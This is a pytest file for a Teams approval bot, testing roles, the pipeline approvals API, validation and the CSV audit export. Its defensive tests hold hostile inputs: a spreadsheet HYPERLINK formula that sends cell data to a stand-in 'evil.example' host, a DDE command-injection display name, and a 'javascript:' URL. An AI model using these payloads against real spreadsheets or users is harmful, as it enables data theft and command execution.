"""Approvals over HTTP through the real CloudAdapter, and the pipeline API (POST /api/approvals).

Alice is an Operator, Bob an Approver, Carol has no role (Viewer); roles come from the
environment lists, by Entra object id."""

from __future__ import annotations

import asyncio
import csv
import io
import json

import pytest

from bot.app import create_app
from bot.settings import load_settings
from tests.card_schema import assert_valid_card
from tests.teams_client import ALICE, BOB, Person, TeamsStandIn

CAROL = Person("29:1carol", "Carol Curious", "00000000-0000-0000-0000-00000000ca20")
CHANNEL = "19:ml-platform@thread.tacv2;messageid=1700000000000"
TOKEN = "t" * 40


@pytest.fixture
def roles_settings(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    return load_settings(data_dir=tmp_path / "data", host="127.0.0.1", operators=ALICE.aad_object_id,
                         approvers=BOB.aad_object_id, api_token=TOKEN)


@pytest.fixture
async def app_server(aiohttp_server, roles_settings):
    return await aiohttp_server(create_app(roles_settings, reset_demo=True))


@pytest.fixture
async def teams(app_server):
    async with TeamsStandIn(str(app_server.make_url("/api/messages"))) as stand_in:
        yield stand_in


async def wait_until(predicate, timeout: float = 5.0) -> None:
    async def poll() -> None:
        while not predicate():
            await asyncio.sleep(0.02)
    await asyncio.wait_for(poll(), timeout)


def card_words(sent) -> str:
    return sent.card["fallbackText"] if sent.card else sent.text


async def test_an_operators_production_change_is_approved_by_someone_else(teams):
    [asked] = await teams.say("traffic fraud-api blue=0 green=100 --reason 'green is better'", mention=True,
                              conversation=CHANNEL, kind="channel")
    assert_valid_card(asked.card)
    assert "Waiting for approval" in card_words(asked)
    assert "Asked by: Alice Analyst" in card_words(asked)
    card_activity = f"activity-{len(teams.connector.sent)}"

    status, own = await teams.click(asked.card, "Approve", conversation=CHANNEL, kind="channel")
    assert status == 200
    messages = [s for s in teams.connector.sent if s.method == "POST"]
    assert any("cannot approve it yourself" in (card_words(s) or "") for s in messages) or \
        "cannot approve it yourself" in json.dumps(own)

    status, body = await teams.click(asked.card, "Approve", user=BOB, conversation=CHANNEL, kind="channel")
    assert status == 200
    assert_valid_card(body["value"])

    # everyone's copy of the card is edited in place, finally showing the outcome
    def finished() -> bool:
        return any(s.method == "PUT" and s.path.endswith(card_activity) and "Approved and done" in card_words(s)
                   for s in teams.connector.sent)
    await wait_until(finished)
    [reply] = await teams.say("endpoint fraud-api", conversation=CHANNEL, kind="channel")
    assert "Traffic: green=100" in card_words(reply)
    [trail] = await teams.say("audit --target fraud-api", conversation=CHANNEL, kind="channel")
    story = card_words(trail)
    for line in ("Alice Analyst asked for #1 (traffic on fraud-api in ml-prod): green is better",   # sentences, #19
                 "Bob Builder approved #1 (traffic on fraud-api in ml-prod): green is better",
                 "#1 (traffic on fraud-api in ml-prod) succeeded: ✅ Traffic on fraud-api is now"):
        assert line in story, (line, story)


async def test_a_viewer_is_refused_and_grant_makes_them_an_approver(teams):
    [asked] = await teams.say("traffic fraud-api blue=0 green=100")
    await teams.click(asked.card, "Approve", user=CAROL)
    [refused] = await teams.say("approve 1", user=CAROL)
    assert refused.text.startswith("`approve` needs the Operator role; you have Viewer.")
    [denied] = await teams.say(f"grant {CAROL.aad_object_id} approver", user=BOB)
    assert denied.text.startswith("`grant` needs the Admin role")


# ---------------------------------------------------------------- the pipeline API

def gate_body(**overrides):
    body = {"action": "traffic", "workspace": "ml-prod", "parameters": {"endpoint": "fraud-api",
                                                                        "split": {"blue": 0, "green": 100}},
            "reason": "release 2026.11.3", "requester": "GitHub Actions (release.yml)",
            "conversation": CHANNEL, "run_url": "https://github.com/contoso/fraud/actions/runs/42", "execute": True}
    body.update(overrides)
    return body


async def api(teams, method: str, path: str, *, body=None, token: str | None = TOKEN, raw: bytes | None = None,
              headers: dict[str, str] | None = None):
    url = teams.bot_url.replace("/api/messages", path)
    headers = {**({"Authorization": f"Bearer {token}"} if token else {}), **(headers or {})}
    if raw is not None:
        headers["Content-Type"] = "application/json"
    async with teams.session.request(method, url, json=body if raw is None else None, data=raw,
                                     headers=headers) as response:
        text = await response.text()
        return response.status, (json.loads(text) if text and response.content_type == "application/json" else text)


@pytest.mark.parametrize("execute", [True, False])
async def test_a_retried_pipeline_call_with_its_idempotency_key_opens_one_request(teams, execute):
    """A pipeline that lost the answer to its POST sends it again with the same key: it gets the
    request the first call opened, not a second one to approve (and perhaps run twice)."""
    await teams.say("hello", mention=True, conversation=CHANNEL, kind="channel")
    body = gate_body(execute=execute, **({} if execute else {"target": "release 2026.11.3"}))
    keyed = {"Idempotency-Key": "github-run-42-attempt-1"}
    first = await api(teams, "POST", "/api/approvals", body=body, headers=keyed)
    again = await api(teams, "POST", "/api/approvals", body=body, headers=keyed)
    other = await api(teams, "POST", "/api/approvals", body=body, headers={"Idempotency-Key": "github-run-43"})
    assert (first[0], again[0], other[0]) == (201, 201, 201)
    assert (first[1]["id"], again[1]["id"], other[1]["id"]) == (1, 1, 2)
    status, refused = await api(teams, "POST", "/api/approvals", body=body, headers={"Idempotency-Key": "é" * 3})
    assert (status, refused["field"]) == (400, "Idempotency-Key")
    assert refused["error"] == "Idempotency-Key must be 1 to 200 printable ASCII characters"


async def test_a_pipeline_gates_on_an_approval_and_polls_it(teams):
    await teams.say("hello", mention=True, conversation=CHANNEL, kind="channel")   # the bot knows the channel
    status, created = await api(teams, "POST", "/api/approvals", body=gate_body())
    assert status == 201, created
    assert (created["id"], created["state"], created["summary"]) == (
        1, "pending", "Traffic on fraud-api: blue=90 green=10 → blue=0 green=100")

    def card_posted() -> bool:
        return any(s.card and "Approval request #1" in card_words(s) for s in teams.connector.sent)
    await wait_until(card_posted)
    posted = next(s for s in teams.connector.sent if s.card and "Approval request #1" in card_words(s))
    assert posted.conversation_id == CHANNEL.split(";")[0] or CHANNEL in posted.path
    assert "Pipeline run: https://github.com/contoso/fraud/actions/runs/42" in card_words(posted)

    status, body = await teams.click(posted.card, "Approve", user=BOB, conversation=CHANNEL, kind="channel")
    assert status == 200

    async def state() -> str:
        return (await api(teams, "GET", "/api/approvals/1"))[1]["state"]
    for _ in range(100):
        if await state() == "succeeded":
            break
        await asyncio.sleep(0.05)
    status, polled = await api(teams, "GET", "/api/approvals/1")
    assert (status, polled["state"], polled["decided_by"], polled["approvals"]) == (200, "succeeded", ["Bob Builder"], 1)
    await wait_until(lambda: any(s.method == "PUT" and "Approved and done" in card_words(s)
                                 for s in teams.connector.sent))
    [reply] = await teams.say("endpoint fraud-api")
    assert "Traffic: green=100" in card_words(reply)

    status, exported = await api(teams, "GET", "/api/audit?format=jsonl")
    events = [json.loads(line)["event"] for line in exported.splitlines()]
    assert events[-5:] == ["requested", "vote:approve", "approved", "executed", "succeeded"]
    status, table = await api(teams, "GET", "/api/audit?format=csv&since=7d")
    assert status == 200 and table.splitlines()[0].startswith("action,") or "seq" in table.splitlines()[0]


@pytest.mark.parametrize("body,status,field", [
    ({"action": "traffic"}, 422, "requester"),
    (gate_body(execute="yes"), 422, "execute"),
    (gate_body(run_url="javascript:alert(1)"), 422, "run_url"),
    (gate_body(action="delete-everything"), 422, "action"),
    (gate_body(parameters={"endpoint": "fraud-api"}), 422, "parameters"),
    (gate_body(parameters={"endpoint": "fraud-api", "split": "blue=50 green=60"}), 422, "parameters"),
    (gate_body(conversation="19:unknown@thread.tacv2"), 422, "conversation"),
    (gate_body(workspace="ml-prdo"), 422, "workspace"),
    (gate_body(extra="field"), 422, "extra"),
])
async def test_bad_gate_requests_get_422_naming_the_field(teams, body, status, field):
    await teams.say("hello", mention=True, conversation=CHANNEL, kind="channel")
    got, answer = await api(teams, "POST", "/api/approvals", body=body)
    assert (got, answer["field"]) == (status, field), answer


async def test_the_api_refuses_without_the_token_and_never_answers_500(teams):
    assert (await api(teams, "POST", "/api/approvals", body=gate_body(), token=None))[0] == 401
    assert (await api(teams, "POST", "/api/approvals", body=gate_body(), token="x" * 40))[0] == 401
    assert (await api(teams, "GET", "/api/approvals/1", token="wrong"))[0] == 401
    assert (await api(teams, "GET", "/api/audit", token=None))[0] == 401
    assert (await api(teams, "POST", "/api/approvals", raw=b"[" * 5000))[0] == 400
    assert (await api(teams, "POST", "/api/approvals", raw=b"not json"))[0] == 400
    assert (await api(teams, "GET", "/api/approvals/99"))[0] == 404
    assert (await api(teams, "GET", "/api/approvals/abc"))[0] == 400
    assert (await api(teams, "GET", "/api/audit?format=xml"))[0] == 400
    assert (await api(teams, "GET", "/api/audit?since=yesterday"))[0] == 400


@pytest.mark.parametrize("query,value", [
    ("since=0001-01-01T00:00:00%2B14:00", "0001-01-01T00:00:00+14:00"),      # year 0 in UTC
    ("since=9999-12-31T23:59:59-14:00", "9999-12-31T23:59:59-14:00"),        # year 10000 in UTC
    ("format=csv&since=0001-01-01T00:00:00%2B00:01", "0001-01-01T00:00:00+00:01"),
])
async def test_an_audit_time_with_no_utc_form_gets_400_naming_since(teams, query, value):
    assert await api(teams, "GET", f"/api/audit?{query}") == (
        400, {"error": f"since: '{value}' is outside the years 1 to 9999 in UTC", "field": "since"})


async def test_the_first_and_last_utc_moments_are_valid_since_values(teams):
    status, text = await api(teams, "GET", "/api/audit?since=0001-01-01T00:00:00Z")
    assert status == 200 and json.loads(text.splitlines()[0])["event"] == "policy_loaded"
    assert await api(teams, "GET", "/api/audit?since=9999-12-31T23:59:59.999999%2B00:00") == (200, "")
    assert (await api(teams, "GET", "/api/audit?since=0001-01-01T14:00:00%2B14:00"))[0] == 200


FORMULAS = ['=HYPERLINK("https://evil.example/?x="&A1,"GitHub Actions")', "+1+1", "-2+3", "@SUM(1,2)",
            "\t=1+1", "\r=1+1"]


async def test_the_csv_export_quotes_cells_a_spreadsheet_would_run_and_nothing_else_changes(teams):
    await teams.say("hello", mention=True, conversation=CHANNEL, kind="channel")
    for requester in FORMULAS:
        status, _ = await api(teams, "POST", "/api/approvals", body=gate_body(
            requester=requester, execute=False, action="deploy", target="-svc", reason="=1+1"))
        assert status == 201
    await wait_until(lambda: sum("Approval request #" in card_words(s) for s in teams.connector.sent
                                 if s.card and s.method == "POST") >= len(FORMULAS))     # out: the next reply is ours
    mallory = Person(ALICE.id, "=cmd|' /C calc'!A0", ALICE.aad_object_id)       # an Operator's display name
    [subscribed] = await teams.say("subscribe drift --model fraud-model", user=mallory)
    assert subscribed.text.startswith("Subscribed this chat")

    status, table = await api(teams, "GET", "/api/audit?format=csv")
    assert status == 200
    rows = [row for row in csv.DictReader(io.StringIO(table, newline="")) if row["event"] in ("requested",
                                                                                              "subscribed")]
    assert [(row["actor_name"], row["actor_id"], row["target"]) for row in rows] == [
        *[("'" + name, f"pipeline:{name}", "'-svc") for name in FORMULAS],
        ("'=cmd|' /C calc'!A0", ALICE.aad_object_id, "#1 drift (model fraud-model)")]
    assert rows[0]["detail"].startswith("{") and rows[0]["at"][:2] == "20"      # JSON and times as they were

    # the JSON lines (and the stored chain, whose hashes cover every value) keep the values verbatim
    status, lines = await api(teams, "GET", "/api/audit?format=jsonl")
    records = [json.loads(line) for line in lines.splitlines()]
    assert [(r["actor_name"], r["target"]) for r in records if r["event"] == "requested"] == [
        (name, "-svc") for name in FORMULAS]
    [verified] = await teams.say("audit verify")
    assert "is intact" in card_words(verified)


ADA = Person("29:1ada", "Ada Admin", "00000000-0000-0000-0000-0000000000ad")


@pytest.fixture
async def admin_teams(aiohttp_server, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    settings = load_settings(data_dir=tmp_path / "data", host="127.0.0.1", admins=ADA.aad_object_id,
                             operators=ALICE.aad_object_id)
    server = await aiohttp_server(create_app(settings, reset_demo=True))
    async with TeamsStandIn(str(server.make_url("/api/messages"))) as stand_in:
        stand_in.connector.members = {CAROL.id: CAROL}
        yield stand_in


async def test_an_admin_grants_a_role_by_mention_and_roles_shows_where_it_comes_from(admin_teams):
    teams = admin_teams
    [granted] = await teams.say("grant @Carol Curious approver", user=ADA, mention=True, conversation=CHANNEL,
                                kind="channel", people=(CAROL,))
    assert granted.text == "Carol Curious is now Approver. Recorded in the audit trail."
    [who] = await teams.say("whoami", user=CAROL)
    assert "Approver" in card_words(who)
    [table] = await teams.say("roles", user=CAROL)
    words = card_words(table)
    assert f"Carol Curious {CAROL.aad_object_id}" in words and "granted by Ada Admin" in words
    assert f"{ADA.aad_object_id}" in words and "environment" in words
    assert "Everyone else: Viewer." in words
    [stranger] = await teams.say("grant @Bob Builder approver", user=ADA, mention=True, conversation=CHANNEL,
                                 kind="channel", people=(BOB,))
    assert "is not a person I can identify" in stranger.text          # not in the team: no object id
    assert "Teams tells the bot only about the members of this conversation" in stranger.text
    await teams.say("whoami", user=BOB)                                # now the bot has met Bob
    [met] = await teams.say("grant @Bob Builder operator", user=ADA, mention=True, people=(BOB,))
    assert met.text == "Bob Builder is now Operator. Recorded in the audit trail."    # from Ada's personal chat
    await teams.say(f"revoke {BOB.aad_object_id}", user=ADA)
    [revoked] = await teams.say(f"revoke {CAROL.aad_object_id}", user=ADA)
    assert revoked.text.startswith("Carol Curious is no longer Approver")
    [trail] = await teams.say("audit --action role", user=ADA)
    story = card_words(trail)
    assert f"Ada Admin made Carol Curious ({CAROL.aad_object_id}) Approver" in story
    assert f"Ada Admin took back Carol Curious ({CAROL.aad_object_id})'s Approver role" in story


async def test_approvers_who_wrote_to_the_bot_get_the_buttons_by_refresh(teams):
    await teams.say("whoami", user=BOB)                                   # Bob is now known by his Teams id
    [asked] = await teams.say("traffic fraud-api blue=0 green=100", conversation=CHANNEL, kind="channel",
                              mention=True)
    card = asked.card
    assert card["refresh"]["userIds"] == [BOB.id]
    assert card["refresh"]["action"]["verb"] == "approval"
    assert not card.get("actions")                                        # everyone else: no buttons
    assert "Approvers see the buttons" in card["fallbackText"]
    async def refreshed_for(person) -> dict:            # what Teams does for a user in refresh.userIds
        body = teams.invoke("approval", ["1"], user=person, conversation=CHANNEL, kind="channel")
        body["value"]["action"]["data"] = card["refresh"]["action"]["data"]
        async with teams.session.post(teams.bot_url, json=body) as response:
            return (await response.json())["value"]

    assert [a["title"] for a in (await refreshed_for(BOB))["actions"]] == ["Approve", "Reject"]   # Bob's own view
    assert not (await refreshed_for(CAROL)).get("actions")                                        # Carol's: none


async def test_a_pipeline_that_names_itself_after_an_approver_never_reads_like_that_person(teams):
    """Issue #17: a pipeline request whose `requester` is a real approver's display name showed in
    `audit`, on the card and in `approval N` exactly like that person."""
    await teams.say("hello", mention=True, conversation=CHANNEL, kind="channel")
    status, created = await api(teams, "POST", "/api/approvals", body=gate_body(requester="Bob Builder"))
    assert status == 201, created

    def card_posted() -> bool:
        return any(s.card and "Approval request #1" in card_words(s) for s in teams.connector.sent)
    await wait_until(card_posted)
    posted = next(s for s in teams.connector.sent if s.card and "Approval request #1" in card_words(s))
    assert "Asked by: Bob Builder (pipeline)" in card_words(posted)
    [shown] = await teams.say("approval 1", conversation=CHANNEL, kind="channel")
    assert "Asked by: Bob Builder (pipeline)" in card_words(shown)
    # Reject asks once, with a reason (issue #19 item 4): the button that rejects is inside its ShowCard.
    await teams.click(posted.card, "Confirm rejection", user=BOB, conversation=CHANNEL, kind="channel",
                      inputs={"reason": "not during the sale"})
    await wait_until(lambda: any(s.method == "PUT" and "Rejected" in card_words(s) for s in teams.connector.sent))
    [trail] = await teams.say("audit --target fraud-api", conversation=CHANNEL, kind="channel")
    story = card_words(trail)
    assert "Bob Builder (pipeline) asked for #1 (traffic on fraud-api in ml-prod): release 2026.11.3" in story, story
    assert "Bob Builder rejected #1 (traffic on fraud-api in ml-prod): not during the sale" in story, story
